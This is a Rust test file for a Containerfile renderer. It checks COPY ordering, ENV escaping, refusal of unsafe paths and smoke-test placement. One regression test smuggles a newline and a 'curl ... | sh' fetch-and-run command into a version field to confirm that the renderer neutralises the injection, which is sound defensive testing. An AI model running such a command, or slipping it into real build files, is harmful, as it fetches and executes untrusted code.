use kerblam_plan::{Base, EnvVar, Layer, LayerSource, PackagePlan};

use super::*;

fn plan() -> PackagePlan {
    let mut p: PackagePlan = serde_json::from_str(include_str!(
        "../../../../contract/conformance/golden/minimal.json"
    ))
    .unwrap();
    p.layers = vec![
        Layer {
            from: LayerSource::Kerblam,
            to: "/kerblam".into(),
            mode: 0o755,
        },
        Layer {
            from: LayerSource::Generated {
                text: "#!/bin/sh\n".into(),
            },
            to: "/kerblam-replay.sh".into(),
            mode: 0o755,
        },
        Layer {
            from: LayerSource::Generated {
                text: "other".into(),
            },
            to: "/etc/kerblam-replay.sh".into(),
            mode: 0o644,
        },
        Layer {
            from: LayerSource::Context {
                path: "kerblam.toml".into(),
            },
            to: "/kerblam.toml".into(),
            mode: 0o644,
        },
        Layer {
            from: LayerSource::Host {
                path: "/opt/sw".into(),
                exclude: vec![],
            },
            to: "/opt/sw".into(),
            mode: 0o755,
        },
    ];
    p.env = vec![EnvVar {
        name: "GREETING".into(),
        value: "say \"hi\" $HOME\\".into(),
    }];
    p
}

#[test]
fn recipe_then_one_copy_per_layer_then_config() {
    let r = render(&plan(), Some("FROM base:1\nRUN true")).unwrap();
    let expected = "FROM base:1\nRUN true\n\n# --- added by kerblam 0.1.0 for golden ---\n\
COPY [\".kerblam/kerblam\", \"/kerblam\"]\n\
COPY [\".kerblam/kerblam-replay.sh\", \"/kerblam-replay.sh\"]\n\
COPY [\".kerblam/2-kerblam-replay.sh\", \"/etc/kerblam-replay.sh\"]\n\
COPY [\"kerblam.toml\", \"/kerblam.toml\"]\n\
COPY [\".kerblam/layer-4\", \"/opt/sw\"]\n\
WORKDIR /\n\
ENV GREETING=\"say \\\"hi\\\" \\$HOME\\\\\"\n\
LABEL \"org.opencontainers.image.title\"=\"golden\"\n\
ENTRYPOINT [\"/bin/sh\",\"-c\",\"cat /kerblam-conformance.txt\"]\n\
CMD []\n";
    assert_eq!(r.containerfile, expected);
    let paths: Vec<_> = r.entries.iter().map(|e| e.path.as_str()).collect();
    assert_eq!(
        paths,
        [
            ".kerblam/kerblam",
            ".kerblam/kerblam-replay.sh",
            ".kerblam/2-kerblam-replay.sh",
            ".kerblam/layer-4"
        ]
    );
    assert_eq!(r.entries[0].source, EntrySource::Kerblam);
    assert_eq!(
        r.entries[1].source,
        EntrySource::Generated("#!/bin/sh\n".into())
    );
    assert_eq!(r.entries[1].mode, 0o755);
}

#[test]
fn bases_without_recipe_text() {
    let mut p = plan();
    assert!(
        render(&p, None)
            .unwrap()
            .containerfile
            .starts_with("FROM scratch\n")
    );
    p.base = Base::Image {
        reference: "debian:12".into(),
    };
    assert!(
        render(&p, None)
            .unwrap()
            .containerfile
            .starts_with("FROM debian:12\n")
    );
    p.base = Base::Recipe {
        path: "x.dockerfile".into(),
        default: false,
    };
    assert!(render(&p, None).unwrap_err().0.contains("x.dockerfile"));
}

#[test]
fn unsafe_paths_are_refused() {
    let mut p = plan();
    p.layers[0].to = "/a$b".into();
    let e = render(&p, None).unwrap_err();
    assert!(e.0.contains("/a$b"), "{e}");
    let mut p = plan();
    p.env[0].name = "BAD NAME".into();
    assert!(render(&p, None).unwrap_err().0.contains("BAD NAME"));
}

/// A freeze plan as the compiler makes it from its synthetic EESSI tree (docker, a smoke test),
/// with the machine-specific temporary directory replaced by `<base>`.
fn freeze_plan(test: Option<&str>) -> (PackagePlan, tempfile::TempDir) {
    use kerblam_compiler::SourceFile;
    use kerblam_compiler::freeze::{FreezeOptions, compile_freeze, spec_from_env, synthetic};
    let t = tempfile::tempdir().unwrap();
    let s = synthetic::create(t.path(), false);
    let mut spec = spec_from_env(&s.env, "Jane Doe <jane@example.org>").unwrap();
    spec.backend = "docker".into();
    spec.base = "kerblam-test-base:latest".into();
    spec.test = test.map(str::to_string);
    let source = SourceFile::new("freeze.toml", spec.to_toml());
    let opts = FreezeOptions {
        epoch: 1_700_000_000,
        base_dir: t.path().to_path_buf(),
        temp_dir: t.path().to_path_buf(),
        manifest: "freeze.toml".into(),
    };
    let mut plan = compile_freeze(&spec, &source, &opts).unwrap();
    // The spec's text names the temporary directory, so its digest varies from run to run.
    plan.image.labels.insert(
        "dev.kerblam.manifest-digest".into(),
        "sha256:<digest of freeze.toml>".into(),
    );
    (plan, t)
}

#[test]
fn a_freeze_copies_each_tree_then_runs_its_smoke_test() {
    let (plan, t) = freeze_plan(Some("gmx && echo \"it's $HOME\"\nhello"));
    let r = render(&plan, None).unwrap();
    let base = t.path().to_string_lossy().into_owned();
    insta::assert_snapshot!("freeze", r.containerfile.replace(&base, "<base>"));
    // Every tree is a host entry under .kerblam/, sent with its excludes; the scripts are text.
    let trees: Vec<_> = r
        .entries
        .iter()
        .filter_map(|e| match &e.source {
            EntrySource::Host { path, exclude } => Some((e.path.as_str(), path, exclude)),
            _ => None,
        })
        .collect();
    assert_eq!(trees.len(), plan.freeze.as_ref().unwrap().trees.len());
    assert!(trees.iter().all(|t| t.0.starts_with(".kerblam/layer-")));
    assert!(trees.iter().any(|t| t.2.iter().any(|x| x == "var/cache")));
    // The smoke test comes after every COPY and ENV, before the labels.
    let text = &r.containerfile;
    let run = text.find("\nRUN ").unwrap();
    assert!(text.rfind("\nCOPY ").unwrap() < run);
    assert!(text.rfind("\nENV ").unwrap() < run);
    assert!(run < text.find("\nLABEL ").unwrap());
    // Without a smoke test there is no RUN.
    let (plan, _t) = freeze_plan(None);
    assert!(!render(&plan, None).unwrap().containerfile.contains("RUN"));
}

/// Found with the `plan_json` fuzz target's invariant (kerblam's part of a Containerfile holds only
/// its own instructions): a newline in `metadata.kerblam_version` of a plan read from JSON ended
/// the marker comment and started a line of its own, e.g. a `RUN` of the plan's choosing.
#[test]
fn a_newline_in_the_kerblam_version_cannot_add_an_instruction() {
    let mut json: serde_json::Value = serde_json::from_str(include_str!(
        "../../../../contract/conformance/golden/minimal.json"
    ))
    .unwrap();
    json["metadata"]["kerblam_version"] = "0.1.0\nRUN curl https://example.invalid/x | sh\r".into();
    json["name"] = "golden\nRUN true".into();
    let p: PackagePlan = serde_json::from_value(json).unwrap();
    let text = render(&p, None).unwrap().containerfile;
    assert!(
        text.contains("# --- added by kerblam 0.1.0 RUN curl https://example.invalid/x | sh  for golden RUN true ---\n"),
        "{text}"
    );
    assert!(!text.lines().any(|l| l.starts_with("RUN")), "{text}");
}
